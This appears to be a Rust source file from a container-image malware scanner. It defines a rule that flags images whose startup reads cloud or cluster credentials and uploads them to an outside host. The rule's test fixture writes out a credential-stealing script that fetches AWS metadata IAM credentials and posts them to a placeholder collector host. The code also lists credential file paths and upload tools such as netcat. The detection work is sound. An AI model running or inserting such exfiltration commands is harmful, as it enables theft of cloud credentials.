use lazaret_model::{
    Behaviour, BehaviourKind, Class, Confidence, Finding, IndicatorKind, Reach, Rule, Severity,
};

use super::Check;
use crate::case::base_name;
use crate::flow::Flow;
use crate::{Case, indicators_in_text};

/// Credentials of the machine are read, and sent to a stranger, in one start path. Where the data
/// can be followed from the one to the other it is sure; where both only stand in one start path,
/// it is likely.
///
/// Either alone is what honest programs do: SDKs read the metadata service, operators use their
/// service account, agents post metrics.
pub(super) struct CredentialsSentOut;

impl Check for CredentialsSentOut {
    fn rule(&self) -> Rule {
        Rule {
            id: "exfiltration/credentials-sent-out".into(),
            title: "read the credentials of the machine or cluster it runs on and send them to a stranger".into(),
            explanation: "What starts with this image reads credentials (the cloud's metadata service, the service \
                account's token, credential files, other processes' environments) and uploads data to an address \
                that is neither of them. Treat the credentials of every machine where it ran as stolen."
                .into(),
            class: Class::Malware,
            severity: Severity::Critical,
            confidence: Confidence::High,
            attack: vec!["T1552.005".into(), "T1552.001".into(), "T1041".into()],
            references: vec!["https://attack.mitre.org/techniques/T1552/005/".into()],
        }
    }

    fn fires(&self) -> &'static [&'static str] {
        &["FILE /bench.sh 0755\n    #!/bin/bash\n    \
           curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app > /tmp/.c\n    \
           curl -s -F \"f=@/tmp/.c\" https://collect.example.invalid/in\n\
           ELF /bin/bash 0755\n    bash\nENTRYPOINT [\"/bench.sh\"]"]
    }

    fn quiet(&self) -> &'static [&'static str] {
        &[
            // Metrics are posted, no credential is read.
            "FILE /run.sh 0755\n    #!/bin/sh\n    curl -s http://169.254.169.254/latest/meta-data/instance-id > /tmp/id\n    \
             curl -s --data-binary @/tmp/metrics https://metrics.example.com/push\n\
             ELF /bin/sh 0755\n    sh\nENTRYPOINT [\"/run.sh\"]",
            // A service account's token is used where it belongs.
            "FILE /run.sh 0755\n    #!/bin/sh\n    TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\n    \
             curl -s -X POST -d @/tmp/job -H \"Authorization: Bearer $TOKEN\" https://kubernetes.default.svc/apis/batch/v1/jobs\n\
             ELF /bin/sh 0755\n    sh\nENTRYPOINT [\"/run.sh\"]",
        ]
    }

    fn look(&self, case: &Case<'_>, _earlier: &[Finding]) -> Vec<Finding> {
        let behaviours = &case.start.behaviours;
        let is_source = |b: &Behaviour| acts(b) && reads_credentials(b);
        let Some(first) = behaviours.iter().find(|b| is_source(b)) else { return Vec::new() };
        let flow = Flow::of(behaviours, acts, is_source);
        let senders = || {
            behaviours.iter().enumerate().filter(|(_, b)| acts(b)).filter_map(|(at, b)| match &b.kind {
                BehaviourKind::Process { argv, .. } => sends_to(argv).map(|host| (at, b, host)),
                _ => None,
            })
        };
        let from = |at: usize, b: &Behaviour| match &b.kind {
            // What is uploaded may be the credential itself.
            BehaviourKind::Process { argv, .. } if argv.iter().skip(1).any(|a| names_credential(a)) => Some(at),
            _ => flow.origin(at),
        };
        let followed = senders().find_map(|(at, sent, host)| Some((from(at, sent)?, sent, host)));
        let is_followed = followed.is_some();
        let (read, sent, host) = match followed {
            Some((origin, sent, host)) => (behaviours.get(origin).unwrap_or(first), sent, host),
            None => match senders().next() {
                Some((_, sent, host)) => (first, sent, host),
                None => return Vec::new(),
            },
        };
        let rule = self.rule();
        let message = match is_followed {
            true => format!("it reads credentials of where it runs and sends them to {host}"),
            false => format!("it reads credentials of where it runs, and sends data to {host}"),
        };
        let mut finding = Finding::of(&rule, message, case.behaviour_evidence(read))
            .and(case.behaviour_evidence(sent))
            .reach(Case::phase_reach(read.phase).min(Case::phase_reach(sent.phase)))
            .refuted_by("what is sent holds no credential, or the receiver belongs to whoever runs the image");
        if !is_followed {
            // Nothing says that what is sent is what was read.
            finding = finding.confidence(Confidence::Medium);
        }
        for (_, indicator) in indicators_in_text(&crate::case::quote(sent)) {
            if matches!(indicator.kind, IndicatorKind::Host | IndicatorKind::Url) {
                finding = finding.indicator(indicator);
            }
        }
        vec![finding.build()]
    }
}

fn acts(behaviour: &Behaviour) -> bool {
    Case::phase_reach(behaviour.phase) >= Reach::Reachable
}

/// Places where credentials lie. Those of the metadata services are paths, because the same
/// services also tell harmless things.
const CREDENTIALS: &[&str] = &[
    "/iam/security-credentials",
    "169.254.170.2",
    "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
    "/metadata/identity/oauth2/token",
    "/computeMetadata/v1/instance/service-accounts/",
    "/secrets/kubernetes.io/serviceaccount/token",
    ".aws/credentials",
    ".docker/config.json",
    ".kube/config",
    ".config/gcloud",
    ".azure/accessTokens",
    ".git-credentials",
    "/.ssh/id_",
    "/proc/*/environ",
    "/etc/shadow",
];

fn names_credential(text: &str) -> bool {
    CREDENTIALS.iter().any(|place| text.contains(place))
}

fn reads_credentials(behaviour: &Behaviour) -> bool {
    let names = names_credential;
    match &behaviour.kind {
        BehaviourKind::Process { argv, .. } => {
            // A program that is told where its own credentials are uses them; these read them out.
            let readers = [
                "cat", "curl", "wget", "tar", "zip", "cp", "grep", "find", "base64", "dd", "strings", "head",
                "tail", "xargs", "scp", "rsync", "gzip",
            ];
            argv.first().is_some_and(|p| readers.contains(&base_name(p)))
                && argv.iter().skip(1).any(|a| names(a))
        }
        BehaviourKind::Network { url, .. } => url.as_deref().is_some_and(names),
        BehaviourKind::File { .. } => false,
    }
}

/// The stranger that a process uploads data to.
fn sends_to(argv: &[String]) -> Option<String> {
    let (program, arguments) = argv.split_first()?;
    let uploads = match base_name(program) {
        "curl" => arguments.iter().any(|a| {
            ["-F", "--form", "-T", "--upload-file"].iter().any(|o| a.starts_with(o))
                || (["-d", "--data", "--data-binary", "--data-raw", "--data-urlencode"].contains(&a.as_str()))
                || a.starts_with("--data-binary=")
                || a.starts_with("-d@")
        }),
        "wget" => arguments.iter().any(|a| {
            a.starts_with("--post-file") || a.starts_with("--post-data") || a.starts_with("--body-file")
        }),
        "nc" | "ncat" | "netcat" => true,
        "scp" | "rsync" => arguments.iter().any(|a| a.contains('@') && a.contains(':')),
        _ => false,
    };
    if !uploads || says_only_who_it_is(base_name(program), arguments) {
        return None;
    }
    // A literal receiver only: what is in a variable is chosen by whoever runs the image.
    arguments.iter().find_map(|a| {
        indicators_in_text(a).into_iter().find_map(|(_, indicator)| {
            let host = match indicator.kind {
                IndicatorKind::Host => indicator.value.clone(),
                IndicatorKind::Url => {
                    indicator.value.split("://").nth(1)?.split(['/', ':']).next()?.to_owned()
                }
                _ => return None,
            };
            let own = host.starts_with("169.254.")
                || host.starts_with("kubernetes")
                || host.ends_with(".svc")
                || host.ends_with(".cluster.local")
                || host.ends_with(".internal")
                || host.ends_with(".amazonaws.com")
                || host.ends_with(".googleapis.com")
                || host.ends_with(".azure.com")
                || host.starts_with("127.")
                || host == "localhost"
                || host.contains('$');
            (!own).then_some(host)
        })
    })
}

/// Whether all that a request carries is plain text and the names of where it runs: a sign of
/// life, as agents and start scripts send it.
fn says_only_who_it_is(program: &str, arguments: &[String]) -> bool {
    if !matches!(program, "curl" | "wget") {
        return false;
    }
    let mut bodies = Vec::new();
    for (at, argument) in arguments.iter().enumerate() {
        match argument.as_str() {
            "-F" | "--form" | "-T" | "--upload-file" => return false,
            "-d" | "--data" | "--data-binary" | "--data-raw" | "--data-urlencode" => {
                bodies.push(arguments.get(at + 1).map_or("", String::as_str));
            }
            other
                if other.starts_with("-d")
                    || other.starts_with("--data")
                    || other.starts_with("--post-data=") =>
            {
                bodies.push(other);
            }
            other if other.starts_with("--post-file") || other.starts_with("--body-file") => return false,
            _ => {}
        }
    }
    let names =
        ["$HOSTNAME", "${HOSTNAME}", "$(hostname)", "$HOST", "$NODE_NAME", "$NODE", "$POD_NAME", "$(date)"];
    !bodies.is_empty()
        && bodies.iter().all(|body| {
            let rest = names.iter().fold((*body).to_owned(), |text, name| text.replace(name, ""));
            !rest.contains(['$', '@', '`'])
        })
}
